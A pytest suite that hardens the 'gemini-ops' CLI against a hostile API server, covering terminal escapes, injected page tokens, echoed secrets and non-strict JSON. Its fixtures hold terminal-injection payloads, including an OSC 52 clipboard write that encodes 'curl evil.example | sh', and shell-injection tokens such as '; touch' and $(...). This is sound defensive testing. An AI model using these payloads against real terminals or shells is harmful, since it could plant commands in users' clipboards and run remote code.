"""The installed ``gemini-ops`` script against a hostile server: the terminal, secrets, JSON.

Every answer comes from the byte-level hostile server, never from the emulator. Server text that
carries terminal controls (screen clears, window titles, clipboard writes, 8-bit C1 controls,
carriage returns, backspaces, bidirectional overrides) and rich markup must reach the terminal as
visible text that does nothing; a suggested command must paste as exactly that command; a key or
token the server echoes back must not be printed; ``--json`` must stay strict JSON.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from .hostile import Conn, HostileServer, Request, json_response

SCRIPT = Path(sys.executable).with_name("gemini-ops")
KEY = "AIzaSyHOSTILE-cli-key-5e1b7c"
TOKEN = "ya29.HOSTILE-cli-token-8d2f4a"

#: One payload per class of control a hostile server might slip into a string.
ATTACKS = {
    "CSI clear screen": "\x1b[2J\x1b[H",
    "OSC window title": "\x1b]0;owned\x07",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",
    "BEL": "\x07",
    "C1 CSI": "\u009b2J",
    "C1 OSC": "\u009d0;owned\u009c",
    "carriage return": "\rError: forged",
    "backspace": "abc\b\b\b",
    "newline": "\nDeleted: forged",
    "bidi override": "\u202egpj.exe",
    "bidi isolate": "\u2066x\u2069",
    "rich markup": "[bold red]markup[/] [link=https://evil.example]link[/link] :skull:",
}
PAYLOAD = "".join(ATTACKS.values())
# What must never reach the terminal raw: C0 controls (newline and tab aside), DEL, C1, bidi.
RAW_CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)
# On a terminal, rich writes its own CSI sequences (colours, cursor moves); nothing else may pass.
TERMINAL_ATTACK = re.compile(
    "\x1b\\]|\x1b\\[2J|\x1b\\[H|\x1bP|\x1b_|\x1b\\^|[\x07\x08\x7f-\x9f\u061c\u200e\u200f"
    "\u202a-\u202e\u2066-\u2069]"
)
# rich drops BEL, backspace and \r from its Text objects itself; the rest is shown as escapes.
VISIBLE = ["\\x1b[2J", "\\x1b]0;owned", "\\x1b]52;c;", "\\u009b2J", "\\u202egpj.exe"]
# A name for lists (a `get` checks that the answer names the operation asked for).
NAME = "batches/b1" + PAYLOAD
MARKUP = "[bold red]markup[/] [link=https://evil.example]link[/link] :skull:"

DROPPED = (
    "GEMINI_API_KEY",
    "GOOGLE_API_KEY",
    "GOOGLE_GENAI_USE_VERTEXAI",
    "GOOGLE_CLOUD_PROJECT",
    "GOOGLE_CLOUD_LOCATION",
    "GEMINI_OPS_BASE_URL",
    "GEMINI_OPS_ACCESS_TOKEN",
    "FORCE_COLOR",
    "TTY_COMPATIBLE",
    "TTY_INTERACTIVE",
    "NO_COLOR",
    "COLUMNS",
)

pytestmark = pytest.mark.skipif(not SCRIPT.exists(), reason="the console script is not installed")


def environ(extra: Mapping[str, str] | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in DROPPED}
    return {**env, "LC_ALL": "C.UTF-8", **(extra or {})}


def cli(
    server: HostileServer, *args: str, env: Mapping[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run the script against the server, its output a pipe."""
    return subprocess.run(
        [str(SCRIPT), "--base-url", server.url, "--api-key", KEY, "--max-retries", "0", *args],
        capture_output=True,
        text=True,
        env=environ(env),
        timeout=60,
        check=False,
    )


def in_a_pty(server: HostileServer, *args: str) -> str:
    """Run on an interactive terminal 100 columns wide; return everything the terminal got."""
    import fcntl
    import pty
    import struct
    import termios

    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 100, 0, 0))
    proc = subprocess.Popen(
        [str(SCRIPT), "--base-url", server.url, "--api-key", KEY, "--max-retries", "0", *args],
        stdin=follower,
        stdout=follower,
        stderr=follower,
        env=environ({"TERM": "xterm-256color"}),
        close_fds=True,
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    proc.wait(timeout=60)
    return b"".join(chunks).decode("utf-8", "replace")


def hostile_operation(name: str = "batches/b1", text: str = PAYLOAD) -> dict[str, Any]:
    """A failed batch whose every string the CLI shows carries ``text``."""
    return {
        "name": name,
        "done": True,
        "metadata": {
            "@type": f"type.googleapis.com/google.ai.generativelanguage.v1beta.X{text}",
            "state": f"BATCH_STATE_{text}",
            "createTime": "2026-01-01T00:00:00Z",
        },
        "error": {"code": 13, "message": f"boom {text}"},
    }


def serve(routes: Mapping[str, Any], status: int = 200) -> Any:
    """A script answering the first route whose key the request path ends with."""

    async def script(request: Request, conn: Conn) -> None:
        for suffix, payload in routes.items():
            if request.path.endswith(suffix):
                await conn.write(json_response(payload, status))
                return
        await conn.write(json_response({"error": {"code": 404, "message": "no"}}, 404))

    return script


def assert_safe(output: str) -> None:
    """Nothing a terminal acts on; the attacks shown as visible escapes; markup as text."""
    found = sorted({f"U+{ord(c):04X}" for c in RAW_CONTROL.findall(output)})
    assert not found, f"raw control characters reached the terminal: {found}"
    for line in output.splitlines():
        assert not line.startswith(("Error: forged", "Deleted: forged")), line


# ----------------------------------------------------------------------------------- terminal

# The outputs a server's text reaches through a pipe: command, arguments, the route answered.
PIPE_PATHS = {
    "get": (("get", "batches/b1"), {"/batches/b1": hostile_operation()}),
    "list": (("list", "batches"), {"/batches": {"operations": [hostile_operation(NAME)]}}),
    "list --wide": (
        ("list", "batches", "--wide"),
        {"/batches": {"operations": [hostile_operation(NAME)]}},
    ),
    "wait (lines and final line)": (
        ("wait", "batches/b1", "--timeout", "5"),
        {"/batches/b1": hostile_operation()},
    ),
    "error line": (
        ("get", "batches/b1"),
        {"/batches/b1": {"error": {"code": 400, "message": PAYLOAD, "status": "X" + PAYLOAD}}},
    ),
    "error details (-v)": (
        ("-v", "get", "batches/b1"),
        {
            "/batches/b1": {
                "error": {
                    "code": 400,
                    "message": PAYLOAD,
                    "details": [
                        {
                            "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                            "reason": PAYLOAD,
                            "domain": PAYLOAD,
                        }
                    ],
                }
            }
        },
    ),
}


@pytest.mark.parametrize("path", list(PIPE_PATHS))
def test_server_text_reaches_a_pipe_harmless(path: str) -> None:
    args, routes = PIPE_PATHS[path]
    status = 400 if path.startswith("error") else 200
    with HostileServer(serve(routes, status)) as server:
        done = cli(server, *args)
    output = done.stdout + done.stderr
    assert_safe(output)
    for escape in VISIBLE:
        assert escape in output, (escape, output)
    assert MARKUP in output


def test_a_list_name_with_every_attack_in_its_own_row() -> None:
    operations = [
        hostile_operation(f"batches/b{i}", text) for i, text in enumerate(ATTACKS.values())
    ]
    with HostileServer(serve({"/batches": {"operations": operations}})) as server:
        done = cli(server, "list", "batches", "--wide")
    assert done.returncode == 0, done.stderr
    assert_safe(done.stdout + done.stderr)
    assert len(done.stdout.splitlines()) == 1 + len(ATTACKS)  # no row forged, none erased


@pytest.mark.parametrize(
    "args",
    [("get", "batches/b1"), ("list", "batches"), ("wait", "batches/b1", "--timeout", "5")],
    ids=["get", "list", "wait live view"],
)
def test_server_text_reaches_a_terminal_harmless(args: Sequence[str]) -> None:
    routes = {
        "/batches/b1": hostile_operation(),
        "/batches": {"operations": [hostile_operation(NAME)]},
    }
    with HostileServer(serve(routes)) as server:
        output = in_a_pty(server, *args)
    attacks = sorted({repr(m) for m in TERMINAL_ATTACK.findall(output)})
    assert not attacks, f"controls reached the terminal: {attacks}"
    assert "\\x1b]52;c;" in output
    assert "[link=https://evil.example]link[/link]" in output
    assert "\x1b]8;" not in output  # no hyperlink made of the server's [link=...]


def test_webhooks_table_on_a_terminal_is_harmless() -> None:
    hook = {"id": "w1" + PAYLOAD, "state": PAYLOAD, "uri": "https://x" + PAYLOAD}
    with HostileServer(serve({"/webhooks": {"webhooks": [hook]}})) as server:
        output = in_a_pty(server, "webhooks", "list")
        piped = cli(server, "webhooks", "list")
    assert not TERMINAL_ATTACK.findall(output)
    assert_safe(piped.stdout + piped.stderr)
    assert "\\x1b]52;c;" in piped.stdout


# ---------------------------------------------------------------------- suggested commands

TOKENS = {
    "semicolon": "x; touch {marker}",
    "command substitution": "$(touch {marker})",
    "backticks": "`touch {marker}`",
    "single quotes": "'; touch {marker}; echo '",
    "carriage return": "t\rgemini-ops list batches; touch {marker} #",
    "escape sequence": "t\x1b[2K\x1b]0;owned\x07; touch {marker}",
    "C1 and bidi": "t\u009b2K\u202e; touch {marker}",
    "backslashes": "a\\b\\'c\\x1b",
}


@pytest.mark.parametrize("kind", list(TOKENS))
def test_the_next_page_command_pastes_as_that_command(kind: str, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    token = TOKENS[kind].format(marker=marker)
    page = {"operations": [hostile_operation(text="")], "nextPageToken": token}
    with HostileServer(serve({"/batches": page})) as server:
        done = cli(server, "list", "batches")
        url = server.url
    assert done.returncode == 0, done.stderr
    hint = next(line for line in done.stderr.splitlines() if line.startswith("More operations: "))
    assert_safe(hint)
    command = hint.removeprefix("More operations: ").rpartition("  (")[0]
    assert command.startswith("gemini-ops ")
    # Paste it into bash, with `gemini-ops` a function that prints the words it was given.
    pasted = subprocess.run(
        ["bash", "-c", 'gemini-ops() { printf "%s\\0" "$@"; }\n' + command],
        capture_output=True,
        env=environ(),
        timeout=30,
        check=False,
    )
    assert pasted.returncode == 0, pasted.stderr
    words = pasted.stdout.decode().split("\0")[:-1]
    assert words == [
        "--base-url",
        url,
        "--max-retries",
        "0",
        "list",
        "batches",
        "--page-token",
        token,
    ]
    assert not marker.exists()


# ------------------------------------------------------------------------------------ secrets


def echoing(secret: str) -> dict[str, Any]:
    """Routes whose answers quote ``secret`` in names, states, messages and URIs."""
    op = {
        "name": f"batches/{secret}",
        "done": True,
        "metadata": {"state": f"BATCH_STATE_{secret}"},
        "response": {"uri": f"https://x.example/v?key={secret}&token={secret}"},
    }
    return {"/batches": {"operations": [op], "nextPageToken": secret}, "/batches/b1": op}


@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "-v"])
@pytest.mark.parametrize(
    "args",
    [
        ("list", "batches"),
        ("list", "batches", "--json"),
        ("list", "batches", "--wide"),
        ("get", "batches/b1"),
        ("get", "batches/b1", "--json"),
        ("wait", "batches/b1", "--timeout", "5"),
    ],
    ids=lambda a: " ".join(a),
)
def test_a_key_echoed_by_the_server_is_never_printed(args: Sequence[str], verbose: bool) -> None:
    with HostileServer(serve(echoing(KEY))) as server:
        done = cli(server, *(("-v",) if verbose else ()), *args)
    output = done.stdout + done.stderr
    assert KEY not in output
    assert KEY[-12:] not in output
    assert "***" in output


@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "-v"])
def test_a_key_echoed_in_an_error_is_never_printed(verbose: bool) -> None:
    error = {"error": {"code": 400, "message": f"API key {KEY} not valid", "status": "X"}}
    with HostileServer(serve({"/batches/b1": error}, 400)) as server:
        done = cli(server, *(("-v",) if verbose else ()), "get", "batches/b1")
    assert done.returncode == 4
    assert KEY not in done.stdout + done.stderr
    assert "API key *** not valid" in done.stderr


@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "-v"])
def test_a_token_with_a_stray_carriage_return_is_never_printed(verbose: bool) -> None:
    name = "projects/p1/locations/us-central1/operations/1"
    with HostileServer(serve({"/operations/1": {"name": name, "done": True}})) as server:
        done = subprocess.run(
            [
                str(SCRIPT),
                "--base-url",
                server.url,
                *(("-v",) if verbose else ()),
                "--vertex",
                *("--max-retries", "0", "get", name),
            ],
            capture_output=True,
            text=True,
            env=environ({"GEMINI_OPS_ACCESS_TOKEN": TOKEN + "\r"}),
            timeout=60,
            check=False,
        )
    assert TOKEN not in done.stdout + done.stderr
    assert TOKEN[-12:] not in done.stdout + done.stderr


# --------------------------------------------------------------------------------------- JSON


def _no_constants(text: str) -> None:
    raise ValueError(f"not JSON: {text}")


@pytest.mark.parametrize(
    "args",
    [
        ("get", "batches/b1", "--json"),
        ("list", "batches", "--json"),
        ("wait", "batches/b1", "--json"),
    ],
    ids=["get", "list", "wait"],
)
def test_json_output_is_strict_json(args: Sequence[str]) -> None:
    body = (
        '{"name": "batches/b1", "done": true, "metadata": {"score": NaN, "high": Infinity,'
        ' "low": -Infinity, "note": "\\u001b]0;t\\u0007\\u009b\\u202e", "big": 1e999},'
        ' "response": {"values": [NaN, 1.5, -Infinity]}}'
    )

    async def script(request: Request, conn: Conn) -> None:
        if request.path.endswith("/batches"):
            await conn.write(json_response(f'{{"operations": [{body}]}}'))
        else:
            await conn.write(json_response(body))

    with HostileServer(script) as server:
        done = cli(server, *args)
    assert done.returncode == 0, done.stderr
    assert_safe(done.stdout)
    [line] = done.stdout.splitlines()
    data = json.loads(line, parse_constant=_no_constants)
    assert data["metadata"] == {
        "score": None,
        "high": None,
        "low": None,
        "note": "\x1b]0;t\x07\u009b\u202e",
        "big": None,
    }
    assert data["response"] == {"values": [None, 1.5, None]}
